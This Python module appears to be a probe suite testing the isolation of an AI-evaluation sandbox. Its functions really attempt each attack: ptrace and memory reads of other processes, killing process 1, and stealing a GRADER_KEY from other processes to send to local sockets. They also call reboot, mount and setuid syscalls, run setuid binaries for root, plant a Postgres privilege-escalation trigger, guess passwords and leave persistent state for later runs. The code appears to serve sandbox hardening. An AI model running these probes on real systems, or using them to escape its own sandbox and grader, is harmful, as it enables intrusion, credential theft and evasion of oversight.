"""Looks for a way out, a secret or a right it should not have. Each function says what it got."""

import ctypes
import os
import socket
import struct
import urllib.parse

import psycopg
import redis as redis_library
from redis.backoff import NoBackoff
from redis.retry import Retry

ONCE = Retry(NoBackoff(), 0)
libc = ctypes.CDLL(None, use_errno=True)
ATTACH, SEIZE, DETACH = 16, 0x4206, 17


def pids():
    return sorted(int(name) for name in os.listdir("/proc") if name.isdigit())


def others():
    return [pid for pid in pids() if pid != os.getpid()]


def read(path, limit=1_000_000):
    try:
        with open(path, "rb") as file:
            return file.read(limit)
    except OSError:
        return b""


# -- other processes ------------------------------------------------------------------------------


def readable_processes():
    """Files of other processes that give away what they hold."""
    found = []
    for pid in others():
        for name in ("environ", "mem", "maps", "auxv", "stack", "syscall", "io"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as file:
                    if name == "mem" or file.read(1):
                        found.append(f"{pid}/{name}")
            except OSError:
                continue
        for folder in ("fd", "cwd", "root", "map_files"):
            try:
                os.listdir(f"/proc/{pid}/{folder}")
            except OSError:
                continue
            found.append(f"{pid}/{folder}")
    return found


def traceable_processes():
    """Processes whose registers and memory could be changed (ptrace(2), process_vm_readv(2))."""
    found = []
    for pid in others():
        if libc.ptrace(SEIZE, pid, None, None) == 0:
            found.append(f"{pid} seized")
        buffer = ctypes.create_string_buffer(8)
        here = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 8)
        there = (ctypes.c_void_p * 2)(0x400000, 8)
        got = libc.process_vm_readv(pid, here, 1, there, 1, 0)
        if got >= 0 or ctypes.get_errno() not in (1, 3, 38):  # EPERM, ESRCH, ENOSYS
            found.append(f"{pid} read: {ctypes.get_errno()}")
    return found


def stop_process_1():
    """Signals to process 1, which watches the lease; what state it is in then."""
    for number in (9, 19, 15, 2, 1, 14):
        if number not in (15, 2):  # those it passes on to the agent
            os.kill(1, number)
    return read("/proc/1/stat").rpartition(b") ")[2][:1].decode()


def stolen_descriptors():
    """Open descriptors of the agent through pidfd_getfd(2)."""
    found = []
    for pid in others():
        pidfd = os.pidfd_open(pid)
        for number in range(64):
            if libc.syscall(438, pidfd, number, 0) >= 0:
                found.append((pid, number))
    return found


# -- the network ----------------------------------------------------------------------------------


def open_ports(host, ports):
    found = []
    for port in ports:
        family = socket.AF_INET6 if ":" in host else socket.AF_INET
        with socket.socket(family) as sock:
            sock.settimeout(1)
            if sock.connect_ex((host, port)) == 0 and sock.getsockname() != sock.getpeername():
                found.append(port)  # a socket may get the very port that it connects to
    return found


def all_local_ports():
    return open_ports("127.0.0.1", range(1, 65536)), open_ports("::1", range(1, 2000))


def reachable(hosts):
    """Addresses to which a packet can be sent at all: TCP to some ports, and UDP."""
    found = []
    for host in hosts:
        for port in (22, 53, 80, 443, 2375, 2376, 5432, 6379, 8080):
            for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
                with socket.socket(socket.AF_INET, kind) as sock:
                    sock.settimeout(0.5)
                    try:
                        sock.connect((host, port))
                        if kind == socket.SOCK_DGRAM:
                            sock.send(b"x")
                    except OSError:
                        continue
                    found.append((host, port, int(kind)))
    return found


def resolved(names):
    found = []
    for name in names:
        try:
            found.append((name, socket.getaddrinfo(name, 80)[0][4][0]))
        except OSError:
            continue
    return found


def asked_for_names():
    """A question to name servers directly: DNS over UDP."""
    query = struct.pack(">6H", 1, 0x100, 1, 0, 0, 0) + b"\7example\3com\0" + struct.pack(">2H", 1, 1)
    found = []
    for host in ("127.0.0.11", "127.0.0.53", "8.8.8.8", "172.17.0.1"):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.settimeout(1)
            try:
                sock.sendto(query, (host, 53))
                found.append((host, sock.recv(512)))
            except OSError:
                continue
    return found


def special_sockets():
    """Kinds of sockets with which a network could be listened to, or changed."""
    found = []
    for family, kind, protocol in (
        (socket.AF_PACKET, socket.SOCK_RAW, 3),
        (socket.AF_INET, socket.SOCK_RAW, 1),
        (socket.AF_INET, socket.SOCK_RAW, 6),
        (40, socket.SOCK_STREAM, 0),  # AF_VSOCK: to the host of a virtual machine
    ):
        try:
            with socket.socket(family, kind, protocol) as sock:
                if family == 40:
                    sock.settimeout(1)
                    sock.connect((2, 22))
                found.append((family, kind))
        except OSError:
            continue
    return found


def unix_sockets():
    """Every unix socket of this namespace, and what answers on each that has a name."""
    lines = read("/proc/net/unix").decode().splitlines()[1:]
    return sorted({line.split()[7] for line in lines if len(line.split()) > 7})


def sockets_on_disk():
    found = []
    for root in ("/session", "/slot", "/slots", "/run", "/var/run", "/tmp", "/dev"):
        for folder, _, names in os.walk(root):
            for name in names:
                path = os.path.join(folder, name)
                with socket.socket(socket.AF_UNIX) as sock:
                    sock.settimeout(1)
                    if sock.connect_ex(path) == 0:
                        found.append(path)
    return sorted(found)


def use_the_key():
    """The agent's key, should it be found anywhere, and every socket that might take it."""
    keys = [part for pid in pids() for part in read(f"/proc/{pid}/environ").split(b"\0")]
    keys = [part.partition(b"=")[2] for part in keys if part.startswith(b"GRADER_KEY=")]
    answers = []
    for path in sockets_on_disk():
        for key in keys:
            body = b'{"key": "' + key + b'"}'
            with socket.socket(socket.AF_UNIX) as sock:
                sock.settimeout(1)
                try:
                    sock.connect(path)
                    sock.sendall(len(body).to_bytes(4, "big") + body)
                    answers.append((path, sock.recv(10)))
                except OSError:
                    continue
    return [answer for answer in answers if answer[1].endswith(b"{}")]


# -- rights ---------------------------------------------------------------------------------------


def forbidden_calls():
    """System calls that change more than this process; those that went on."""
    found = []
    for name, number, arguments in (
        ("mount", 165, (b"none", b"/tmp", b"tmpfs", 0, None)),
        ("umount", 166, (b"/session", 2)),
        ("unshare", 272, (0x10000000,)),
        ("setns", 308, (os.open("/proc/self/ns/net", os.O_RDONLY), 0)),
        ("chroot", 161, (b"/tmp",)),
        ("pivot_root", 155, (b"/tmp", b"/tmp")),
        ("reboot", 169, (0xFEE1DEAD, 672274793, 0)),
        ("init_module", 175, (None, 0, b"")),
        ("kexec_load", 246, (0, 0, None, 0)),
        ("bpf", 321, (0, None, 0)),
        ("perf_event_open", 298, (None, 0, -1, -1, 0)),
        ("add_key", 248, (b"user", b"a", b"b", 1, -3)),
        ("keyctl", 250, (0, -3, 0)),
        ("userfaultfd", 323, (0,)),
        ("open_by_handle_at", 304, (-100, None, 0)),
        ("swapon", 167, (b"/tmp/x", 0)),
        ("settimeofday", 164, (ctypes.create_string_buffer(16), None)),
        ("sethostname", 170, (b"x", 1)),
        ("setuid", 105, (0,)),
        ("setgroups", 116, (1, ctypes.create_string_buffer(8))),
        ("shmget", 29, (0, 4096, 0o1600)),
        ("msgget", 68, (0, 0o1600)),
        ("semget", 64, (0, 1, 0o1600)),
    ):
        if libc.syscall(number, *arguments) >= 0:
            found.append(name)
    return found


def setuid_programs():
    found = []
    for folder, _, names in os.walk("/"):
        if folder.startswith(("/proc", "/sys")):
            continue
        for name in names:
            try:
                if os.lstat(os.path.join(folder, name)).st_mode & 0o6000 == 0o4000:
                    found.append(os.path.join(folder, name))
            except OSError:
                continue
    return found


def become_root():
    """Through the programs that give rights to whoever starts them."""
    got = []
    for path in setuid_programs():
        child = os.fork()
        if child == 0:
            os.dup2(os.open(os.devnull, os.O_RDWR), 0)
            try:
                os.execv(path, [path, "-c", "touch /tmp/root"])
            finally:
                os._exit(1)
        os.waitpid(child, 0)
        if os.path.exists("/tmp/root") and os.stat("/tmp/root").st_uid == 0:
            got.append(path)
    return got


def own_cgroup():
    """Limits of its own that it may lift: anything writable below the control groups."""
    found = []
    for folder, _, names in os.walk("/sys/fs/cgroup"):
        found += [f"{folder}/{name}" for name in names if os.access(f"{folder}/{name}", os.W_OK)]
    return found[:10]


def kernel_files():
    """Files of /proc and /sys that reach beyond this container."""
    paths = [
        "/proc/kcore", "/proc/kmem", "/proc/mem", "/dev/mem", "/dev/kmsg", "/proc/kallsyms.x",
        "/proc/sysrq-trigger", "/proc/timer_list", "/proc/keys", "/proc/acpi", "/proc/scsi/scsi",
        "/sys/firmware/dmi/tables/DMI", "/sys/kernel/debug", "/proc/sys/kernel/core_pattern.x",
        "/dev/sda", "/dev/vda", "/dev/loop0", "/dev/fuse", "/dev/net/tun", "/dev/kvm",
    ]
    got = []
    for path in paths:
        if read(path, 10):
            got.append(path)
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/self/oom_adj.x"):
        try:
            with open(path, "r+b") as file:
                file.write(b"x")
            got.append(f"written: {path}")
        except OSError:
            continue
    return got


# -- secrets --------------------------------------------------------------------------------------


def holding(word):
    """Every readable place with this word in its name or in it: files, and what /proc shows."""
    word, found = word.encode(), []
    for folder, folders, names in os.walk("/"):
        if folder in ("/sys", "/usr"):
            folders[:] = []
            continue
        for name in [*folders, *names]:
            path = os.path.join(folder, name)
            if path in ("/proc/kmsg", "/submission/program.py"):
                continue
            if word in os.fsencode(name):
                found.append(path)
            if name in names and os.path.isfile(path) and not folder.startswith("/proc/sys"):
                if word in read(path):
                    found.append(path)
    return sorted(set(found))


def variables():
    found = set()
    for pid in pids():
        for part in read(f"/proc/{pid}/environ").split(b"\0"):
            found.add(part.partition(b"=")[0].decode())
    return sorted(found - {""})


# -- the database ---------------------------------------------------------------------------------


def connect(**other):
    url = urllib.parse.urlsplit(os.environ["DATABASE_URL"])
    values = {
        "host": "127.0.0.1",
        "user": url.username,
        "password": url.password,
        "dbname": "learner",
        "connect_timeout": 5,
        "autocommit": True,
        **other,
    }
    return psycopg.connect(**values)


def statements(listed):
    """Those that were not refused, with the beginning of their answer."""
    found = []
    for statement in listed:
        with connect() as connection:
            try:
                cursor = connection.execute(statement)
                rows = cursor.fetchmany(3) if cursor.description else []
            except psycopg.Error:
                continue
            found.append((statement, repr(rows)[:200]))
    return found


def logins(accounts):
    """Accounts and databases to which a connection could be made."""
    with connect() as connection:
        names = [row[0] for row in connection.execute("SELECT datname FROM pg_database")]
        roles = [row[0] for row in connection.execute("SELECT rolname FROM pg_roles")]
    found = []
    for name in names:
        for account in [*accounts, *roles]:
            own = urllib.parse.urlsplit(os.environ["DATABASE_URL"]).password
            for password in ("", account, own, "postgres", None):
                try:
                    connect(user=account, password=password, dbname=name).close()
                except (psycopg.Error, ValueError):
                    continue
                found.append((account, name))
    return sorted(set(found))


def replication():
    try:
        with psycopg.connect(os.environ["DATABASE_URL"] + "?replication=database") as connection:
            return repr(connection.execute("IDENTIFY_SYSTEM").fetchall())
    except psycopg.Error as error:
        return str(error)


def set_a_trap():
    """A trigger that runs when a test writes to the table, with whatever rights that has."""
    with connect() as connection:
        connection.execute("CREATE TABLE trap (what text)")
        connection.execute(
            """
            CREATE FUNCTION spring() RETURNS trigger LANGUAGE plpgsql AS $$
            DECLARE attempt text;
            BEGIN
                INSERT INTO trap VALUES ('as ' || current_user || ' of ' || session_user);
                FOREACH attempt IN ARRAY ARRAY[
                    'RESET ROLE', 'SET ROLE postgres', 'SET SESSION AUTHORIZATION postgres',
                    'COPY (SELECT 1) TO PROGRAM ''id''', 'ALTER ROLE learner SUPERUSER',
                    'RESET ROLE; CREATE ROLE mine SUPERUSER', 'SELECT * FROM pg_authid',
                    'RESET ROLE; SELECT pg_read_file(''/etc/passwd'')'
                ] LOOP
                    BEGIN
                        EXECUTE attempt;
                        INSERT INTO trap VALUES (attempt || ' -> ' || current_user);
                    EXCEPTION WHEN OTHERS THEN
                        NULL;
                    END;
                END LOOP;
                RETURN NEW;
            END $$
            """
        )
        connection.execute("GRANT ALL ON trap TO PUBLIC")
        connection.execute(
            "CREATE TRIGGER spring BEFORE INSERT ON counter FOR EACH ROW EXECUTE FUNCTION spring()"
        )


def sprung():
    with connect() as connection:
        return [row[0] for row in connection.execute("SELECT what FROM trap")]


# -- the cache ------------------------------------------------------------------------------------


def commands(listed):
    """Those that were not refused."""
    found = []
    for command in listed:
        client = redis_library.Redis.from_url(os.environ["REDIS_URL"], socket_timeout=3)
        try:
            answer = client.execute_command(*command)
        except redis_library.RedisError:
            continue
        found.append((" ".join(command), repr(answer)[:200]))
    return found


def cache_logins(accounts):
    own = urllib.parse.urlsplit(os.environ["REDIS_URL"]).password
    found = []
    for user in accounts:
        for password in ("", user, own, "redis", None):
            try:
                client = redis_library.Redis(
                    username=user, password=password, socket_timeout=3, retry=ONCE
                )
                client.ping()
            except redis_library.RedisError:
                continue
            found.append((user, password))
    return found


# -- what one run leaves for the next ----------------------------------------------------------------


def plant(word):
    """Everywhere that can be written."""
    os.close(os.open(f"/dev/mqueue/{word}", os.O_CREAT | os.O_RDWR))
    for place in (".", "/tmp", "/dev/shm", "/slot"):
        with open(os.path.join(place, word), "w") as file:
            file.write(word)
    with connect() as connection:
        connection.execute(f"CREATE TABLE {word} (n int)")
        connection.execute(f"COMMENT ON DATABASE learner IS '{word}'")
        connection.execute(f"ALTER ROLE CURRENT_USER SET application_name = '{word}'")
        connection.execute(f"ALTER DATABASE learner SET application_name = '{word}'")
        connection.execute("SELECT lo_from_bytea(0, %s)", [word.encode()])
    client = redis_library.Redis.from_url(os.environ["REDIS_URL"])
    client.set(word, word)
    client.select(5)
    client.set(word, word)
    client.script_load(f"return '{word}'")
    client.function_load(
        f"#!lua name={word}\nredis.register_function('{word}', function() return 1 end)"
    )
    listener = socket.socket(socket.AF_UNIX)
    listener.bind("\0" + word)
    listener.listen()
    if os.fork() == 0:
        os.setsid()
        while True:
            os.sched_yield()
    return holding(word)


def planted(word):
    """What is to be found of it."""
    found = holding(word) + [name for name in unix_sockets() if word in name]
    with connect() as connection:
        for query in (
            "SELECT relname FROM pg_class",
            "SELECT description FROM pg_shdescription",
            "SELECT setconfig::text FROM pg_db_role_setting",
            "SELECT convert_from(lo_get(oid), 'UTF8') FROM pg_largeobject_metadata",
            "SHOW application_name",
        ):
            found += [str(row) for row in connection.execute(query) if word in str(row)]
    for number in range(16):
        client = redis_library.Redis.from_url(os.environ["REDIS_URL"], db=number)
        found += [f"{number}: {key}" for key in client.keys("*")]
    found += [str(one) for one in client.function_list()]
    return found
